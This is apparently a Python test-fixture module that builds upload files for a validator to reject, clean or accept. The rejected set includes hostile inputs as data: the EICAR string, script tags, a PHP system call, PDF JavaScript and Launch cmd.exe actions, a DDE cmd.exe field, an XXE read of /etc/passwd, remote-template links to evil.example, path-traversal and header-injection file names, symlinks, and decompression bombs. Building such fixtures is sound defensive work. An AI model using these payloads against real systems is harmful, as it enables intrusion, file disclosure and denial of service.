"""Files as people send them, good and bad, made here: nothing hostile lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping

import openpyxl
from PIL import Image

from tests.documents_made import PDF

type File = tuple[str, bytes]

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
WORDS = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    content = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(content, kind, **options)  # type: ignore[arg-type]
    return content.getvalue()


def picture_with_place() -> bytes:
    """A JPEG that says where and how it was taken, lying on its side."""
    notes = Image.Exif()
    notes[0x0112] = 6
    notes[0x010E] = "canary of the camera"
    notes.get_ifd(0x8825).update({1: "N", 2: (39.0, 20.0, 30.0), 3: "E", 4: (112.0, 26.0, 0.0)})
    return picture("JPEG", exif=notes.tobytes(), comment=b"canary of the comment")


def archive(
    parts: Mapping[str, bytes] | Iterable[tuple[zipfile.ZipInfo | str, bytes]], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", method) as made:
        for name, data in parts.items() if isinstance(parts, Mapping) else parts:
            made.writestr(name, data, method)
    return content.getvalue()


def docx(**parts: bytes) -> bytes:
    """A Word file; `parts` are further entries, whose names have __ for / and _dot_ for a full stop."""
    more = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    whole = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS % b"", "word/document.xml": WORDS}
    return archive(whole | more)


def docx_with(entries: Iterable[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    return archive([("[Content_Types].xml", TYPES), ("word/document.xml", WORDS), *entries])


def docx_relation(kind: str, target: str = "http://evil.example/x", more: bytes = b"") -> bytes:
    link = f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'.encode()
    return docx_with([("word/_rels/document.xml.rels", RELATIONS % (link + more))])


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["名称", "价格"])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def pdf(extra: bytes = b"", *, before: bytes = b"", after: bytes = b"") -> bytes:
    return before + PDF.replace(b"trailer", extra + b"\ntrailer") + after


def pdf_packed(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    head = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return pdf(head + packed + b"\nendstream endobj")


def png_of_size(width: int, height: int) -> bytes:
    """A tiny file that claims to be a huge picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (20, 20), (shade, 0, 0)) for shade in (0, 99, 200)]
    content = io.BytesIO()
    frames[0].save(content, kind, save_all=True, append_images=frames[1:])
    return content.getvalue()


def _symlink(name: str) -> zipfile.ZipInfo:
    link = zipfile.ZipInfo(name)
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    return link


def _locked_archive() -> bytes:
    """As if its entries were encrypted: the flag is set in every header."""
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def _false_sizes() -> bytes:
    """The directory says one byte, the entry holds two megabytes."""
    content = bytearray(docx_with([("word/media/a.bin", b"A" * 2_000_000)]))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x05\x06"))
    content[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(content)


def _doubled_entry() -> bytes:
    content = docx_with([("word/document.xmm", WORDS)])
    return content.replace(b"word/document.xmm", b"word/document.xml")


def hostile() -> dict[str, File]:
    """What must be refused, by what is wrong with it."""
    return {**_wrong_kinds(), **_wrong_names(), **_active_pdfs(), **_active_office(), **_bombs(), **_texts_and_pictures()}


def _wrong_kinds() -> dict[str, File]:
    liars = {
        "a program as PDF": ("a.pdf", EXE),
        "a program as Word": ("a.docx", EXE),
        "a program as picture": ("a.png", EXE),
        "a program as text": ("a.txt", EXE),
        "a Linux program as table": ("a.csv", ELF),
        "a page as PDF": ("a.pdf", HTML),
        "a page as picture": ("a.jpg", HTML),
        "a drawing as picture": ("a.png", SVG),
        "a PNG as JPEG": ("a.jpg", picture("PNG")),
        "a JPEG as PNG": ("a.png", picture("JPEG")),
        "a GIF as PNG": ("a.png", GIF),
        "a PDF as PNG": ("a.png", PDF),
        "a PDF as Word": ("a.docx", PDF),
        "a PDF as text": ("a.txt", PDF),
        "a Word file as Excel": ("a.xlsx", docx()),
        "an Excel file as Word": ("a.docx", xlsx()),
        "an archive as Word": ("a.docx", archive({"a.txt": b"hello"})),
        "an archive as PDF": ("a.pdf", docx()),
        "an old Word file as Word": ("a.docx", OLE),
        "rich text as text": ("a.txt", b"{\\rtf1\\ansi hello}"),
        "a packed file as text": ("a.txt", b"\x1f\x8b\x08" + b"\0" * 40),
    }
    unwelcome = {
        f"a {suffix} file": (f"a{suffix}", content)
        for suffix, content in {
            ".html": HTML,
            ".svg": SVG,
            ".exe": EXE,
            ".js": b"alert(1)",
            ".php": b"<?php system('id');",
            ".zip": archive({"a.txt": b"hello"}),
            ".docm": docx(),
            ".xlsm": xlsx(),
            ".doc": OLE,
            ".gif": GIF,
            ".xml": b"<?xml version='1.0'?><a/>",
            ".pdf.html": HTML,
            ".pdf.exe": PDF,
            "": PDF,
        }.items()
    }
    return {**liars, **unwelcome}


def _wrong_names() -> dict[str, File]:
    return {
        "a name that climbs": ("../../etc/passwd.pdf", PDF),
        "a name with a Windows path": ("..\\..\\boot.pdf", PDF),
        "an absolute name": ("/etc/cron.d/a.pdf", PDF),
        "a name written from right to left": ("invoice\u202efdp.exe.pdf", PDF),
        "a name with an invisible joint": ("con\u200dtract.pdf", PDF),
        "a name with a zero byte": ("a.pdf\x00.exe", PDF),
        "a name with a line break": ("a\r\nSet-Cookie: x=1.pdf", PDF),
        "a hidden file": (".htaccess.pdf", PDF),
        "a name of 255 bytes": ("a" * 251 + ".pdf", PDF),
        "a name of 300 bytes in Chinese": ("合" * 96 + "同.pdf", PDF),
        "no name": ("", PDF),
    }


def _active_pdfs() -> dict[str, File]:
    actions = {
        "runs a script": b"5 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj",
        "runs a script under an escaped name": b"5 0 obj<</S/J#61v#61Script>>endobj",
        "names its script elsewhere": b"5 0 obj<</S/Unheard/JS 7 0 R>>endobj",
        "plays what brings a script": b"5 0 obj<</S/Rendition/OP 0>>endobj",
        "runs a script when opened": b"5 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj",
        "starts a program": b"5 0 obj<</S/Launch/F(cmd.exe)>>endobj",
        "carries a file": b"5 0 obj<</Type/EmbeddedFile>>stream\nx\nendstream endobj",
        "carries media": b"5 0 obj<</Subtype/RichMedia>>endobj",
        "carries a live form": b"5 0 obj<</XFA 6 0 R>>endobj",
        "sends a form": b"5 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj",
        "opens another file": b"5 0 obj<</S/GoToR/F(//evil.example/a)>>endobj",
        "is locked": b"5 0 obj<</Encrypt 6 0 R>>endobj",
    }
    return {
        **{f"a PDF that {what}": ("a.pdf", pdf(body)) for what, body in actions.items()},
        "a PDF with a script in its packed objects": ("a.pdf", pdf_packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>")),
        "a PDF with an escaped script in its packed objects": ("a.pdf", pdf_packed(b"1 0 <</S/J#61vaScript>>")),
        "a PDF that is a page too": ("a.pdf", pdf(b"", before=b"").replace(b"1 0 obj", HTML + b"\n1 0 obj", 1)),
        "a PDF that is an archive too": ("a.pdf", pdf(after=b"")[:9] + docx() + pdf()),
        "a PDF with an archive behind it": ("a.pdf", pdf() + archive({"Evil.class": b"x" * 10}) + b"\n"[:0]),
        "a PDF after something else": ("a.pdf", pdf(before=b"GIF89a")),
        "half a PDF": ("a.pdf", PDF[:60]),
        "a virus in a PDF": ("a.pdf", pdf(EICAR)),
    }


def _active_office() -> dict[str, File]:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    hyperlink = f'<Relationship Id="r2" Type="{_OFFICE}/hyperlink" Target="http://a.example" TargetMode="External"/>'.encode()
    dde = WORDS.replace(b"<w:body/>", b"<w:body><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:body>")
    files = {
        "with macros": docx(word__vbaProject_dot_bin=b"macro"),
        "that declares macros": archive(
            {"[Content_Types].xml": TYPES.replace(b"/>", b">macroEnabled</Types>"), "word/document.xml": WORDS}
        ),
        "with a control": docx(word__activeX__activeX1_dot_xml=b"<a/>"),
        "with a file inside": docx(word__embeddings__oleObject1_dot_bin=b"x"),
        "that fetches its template": docx_relation("attachedTemplate"),
        "that fetches its template beside a link": docx_relation("attachedTemplate", more=hyperlink),
        "that fetches a frame": docx_relation("frame"),
        "that reads the server's files": docx(word__settings_dot_xml=entity),
        "that reads the server's files in UTF-16": docx(word__settings_dot_xml=entity.decode().encode("utf-16")),
        "that runs a command by DDE": archive({"[Content_Types].xml": TYPES, "word/document.xml": dde}),
        "with a program as its picture": docx(word__media__image1_dot_png=EXE),
        "with an archive inside": docx(word__media__a_dot_bin=archive({"a": EICAR})),
        "with a virus inside": docx(word__media__a_dot_txt=EICAR),
        "whose entry climbs": docx_with([("../../etc/cron.d/a", b"x")]),
        "whose entry is absolute": docx_with([("/etc/passwd", b"x")]),
        "whose entry is on a drive": docx_with([("C:\\evil.dll", b"x")]),
        "with a symbolic link": docx_with([(_symlink("word/link"), b"/etc/passwd")]),
        "that is locked": _locked_archive(),
        "with an entry twice": _doubled_entry(),
        "that is cut off": docx()[:200],
    }
    sheet = archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>", "xl/externalLinks/externalLink1.xml": b"<a/>"})
    return {
        **{f"a Word file {what}": ("a.docx", content) for what, content in files.items()},
        "a table that reads another": ("a.xlsx", sheet),
        "a table with macros": (
            "a.xlsx",
            archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>", "xl/vbaProject.bin": b"x"}),
        ),
    }


def _bombs() -> dict[str, File]:
    return {
        "a bomb": ("a.docx", docx(word__media__a_dot_bin=b"\0" * 30_000_000)),
        "a bomb of a thousand entries": ("a.docx", docx_with((f"word/{n}.txt", b"x") for n in range(1100))),
        "a bomb that understates itself": ("a.docx", _false_sizes()),
        "a picture of 900 million pixels": ("a.png", png_of_size(30_000, 30_000)),
        "a picture of 70 million pixels": ("a.png", png_of_size(10_000, 7_000)),
        "a file of 30 MB": ("a.pdf", pdf(b"%" + b" " * 30 * 1024 * 1024)),
        "an empty file": ("a.pdf", b""),
        "an empty picture": ("a.png", b""),
    }


def _texts_and_pictures() -> dict[str, File]:
    return {
        "a page as text": ("a.txt", HTML),
        "a script in a table": ("a.csv", b"name,price\n" + SCRIPT),
        "a drawing as text": ("a.txt", SVG),
        "a page in UTF-16 as text": ("a.txt", HTML.decode().encode("utf-16")),
        "control characters as text": ("a.txt", b"hello\x07\x1b[31m"),
        "a virus as text": ("a.txt", EICAR),
        "a packed virus": ("eicar.zip", archive({"eicar.com": EICAR})),
        "a packed virus as Word": ("eicar.docx", archive({"eicar.com": EICAR})),
        "a virus in a picture's tail": ("a.png", picture() + EICAR),
        "noise as text": ("a.txt", bytes(range(128, 256)) * 8),
        "half a picture": ("a.jpg", picture("JPEG", (400, 300))[:600]),
        "a picture with a wrong header only": ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40),
        "a moving picture": ("a.png", animated("PNG")),
        "a moving WebP": ("a.webp", animated("WEBP")),
    }


def made_inert() -> dict[str, File]:
    """What is taken, but cleaned: none of these bytes may be handed out again."""
    return {
        "a picture with a page behind it": ("a.png", picture() + HTML),
        "a picture with an archive behind it": ("a.png", picture() + archive({"a.txt": SCRIPT})),
        "a photograph with a script as comment": ("a.jpg", picture("JPEG", comment=SCRIPT)),
        "a photograph with its place": ("a.jpg", picture_with_place()),
        "a WebP with a page behind it": ("a.webp", picture("WEBP") + HTML),
    }


def clean() -> dict[str, File]:
    """What must be taken."""
    texts = {
        "text": "价格：一百二十万元。\r\n条款见附件。",
        "a table": "名称,价格\n技术,1200000\n=1+1,-2",
        "text with signs": "a < b && c > d; 5 < 6 <见附件>",
    }
    named = {
        f"{what} in {encoding}": (f"{what}.{'csv' if 'table' in what else 'txt'}", text.encode(encoding))
        for what, text in texts.items()
        for encoding in ("utf-8", "utf-8-sig", "gb18030")
    }
    pictures = {
        f"a {kind} of {size[0]}": (f"照片.{suffix}", picture(kind, size))
        for kind, suffix in (("PNG", "png"), ("JPEG", "jpg"), ("JPEG", "jpeg"), ("WEBP", "webp"))
        for size in ((1, 1), (640, 480), (3000, 2000))
    }
    names = ["合同.pdf", "Contract (final) v2.PDF", "甲方-乙方_2026年3月.pdf", "a.b.c.pdf", "报告 终稿.pdf", "o'neil & co.pdf"]
    return {
        **named,
        **pictures,
        **{f"named {name}": (name, PDF) for name in names},
        "a PDF with packed objects": ("a.pdf", pdf_packed(b"1 0 <</Type/Font/BaseFont/Song>>")),
        "a PDF with a link": ("a.pdf", pdf(b"5 0 obj<</S/URI/URI(https://a.example)>>endobj")),
        "a PDF of 15 MB": ("a.pdf", pdf(b"%" + b" " * 15 * 1024 * 1024)),
        "a Word file": ("合同.docx", docx()),
        "a Word file with a picture": ("a.docx", docx(word__media__image1_dot_png=picture())),
        "a Word file with a link": ("a.docx", docx_relation("hyperlink", "https://a.example")),
        "a table of Excel": ("价格.xlsx", xlsx()),
    }
